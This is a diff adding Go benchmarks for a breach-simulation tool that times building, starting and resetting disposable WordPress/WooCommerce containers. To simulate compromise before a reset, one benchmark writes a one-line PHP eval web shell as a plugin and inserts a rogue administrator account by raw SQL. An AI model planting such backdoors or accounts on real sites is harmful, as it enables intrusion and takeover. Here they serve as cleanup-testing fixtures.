@@ -1,0 +1,106 @@
+package containers_test
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/breachdrill/breachdrill/containers"
+	"github.com/breachdrill/breachdrill/internal/stacktest"
+)
+
+// BenchmarkImageBuild builds the debian image from nothing. It takes about
+// a minute and replaces the tagged image, so it runs only when asked:
+// BREACHDRILL_BENCH_BUILD=1 go test -run '^$' -bench ImageBuild ./containers
+func BenchmarkImageBuild(b *testing.B) {
+	if os.Getenv("BREACHDRILL_BENCH_BUILD") != "1" {
+		b.Skip("set BREACHDRILL_BENCH_BUILD=1 to rebuild the image (about a minute)")
+	}
+	stacktest.Available(b)
+	var total time.Duration
+	for b.Loop() {
+		start := time.Now()
+		if _, err := containers.EnsureImages(context.Background(), containers.SourceDebian, containers.WithRebuild()); err != nil {
+			b.Fatal(err)
+		}
+		total += time.Since(start)
+	}
+	b.ReportMetric(total.Seconds()/float64(b.N), "s/build")
+}
+
+// BenchmarkStackReady starts a stack from existing images until it is ready
+// (WordPress installed, WooCommerce's tables made, reset point taken).
+// Target: under 10 s on 2 cores.
+func BenchmarkStackReady(b *testing.B) {
+	imgs := stacktest.Images(b)
+	var total time.Duration
+	for b.Loop() {
+		start := time.Now()
+		s, err := containers.Run(context.Background(), containers.WithImages(imgs))
+		if err != nil {
+			b.Fatal(err)
+		}
+		total += time.Since(start)
+		b.StopTimer()
+		if err := s.Close(context.Background()); err != nil {
+			b.Fatal(err)
+		}
+		b.StartTimer()
+	}
+	b.ReportMetric(total.Seconds()/float64(b.N), "s/ready")
+}
+
+// BenchmarkReset times Reset after what a typical scenario does: a debug
+// log and a backdoor written into the docroot, an option changed, a rogue
+// administrator added, card numbers put in order meta. Target: under 3 s.
+func BenchmarkReset(b *testing.B) {
+	s := sharedStack(b)
+	ctx := context.Background()
+	p := s.TablePrefix()
+	debugLog := []byte(strings.Repeat("PHP Warning:  Undefined variable $x in /var/www/html/wp-content/themes/x.php on line 3\n", 10000))
+	var total time.Duration
+	for i := 0; b.Loop(); i++ {
+		b.StopTimer()
+		steps := []func() error{
+			func() error { return s.WriteFile(ctx, "wp-content/debug.log", debugLog, 0o644) },
+			func() error {
+				return s.WriteFile(ctx, "wp-content/plugins/rogue/rogue.php", []byte("<?php /* Plugin Name: Rogue */ @eval($_POST['x']);"), 0o644)
+			},
+			func() error {
+				_, err := s.AppDB().ExecContext(ctx, "UPDATE "+p+"options SET option_value = 'https://evil.example' WHERE option_name = 'blogdescription'")
+				return err
+			},
+			func() error {
+				_, err := s.AppDB().ExecContext(ctx, fmt.Sprintf("INSERT INTO %susers (user_login, user_pass, user_email, user_registered) VALUES ('rogue%d', '$P$x', 'r%d@evil.example', NOW())", p, i, i))
+				return err
+			},
+			func() error {
+				_, err := s.AppDB().ExecContext(ctx, "INSERT INTO "+p+"usermeta (user_id, meta_key, meta_value) VALUES (LAST_INSERT_ID(), '"+p+"capabilities', 'a:1:{s:13:\"administrator\";b:1;}')")
+				return err
+			},
+			func() error {
+				_, err := s.AppDB().ExecContext(ctx, "INSERT INTO "+p+"wc_orders_meta (order_id, meta_key, meta_value) VALUES (1, '_card', '4111111111111111')")
+				return err
+			},
+		}
+		for _, step := range steps {
+			if err := step(); err != nil {
+				b.Fatal(err)
+			}
+		}
+		b.StartTimer()
+		start := time.Now()
+		rep, err := s.Reset(ctx)
+		if err != nil {
+			b.Fatal(err)
+		}
+		total += time.Since(start)
+		if i == 0 {
+			b.Logf("restored %v, dropped %v", rep.TablesRestored, rep.TablesDropped)
+		}
+	}
+	b.ReportMetric(total.Seconds()/float64(b.N), "s/reset")
+}
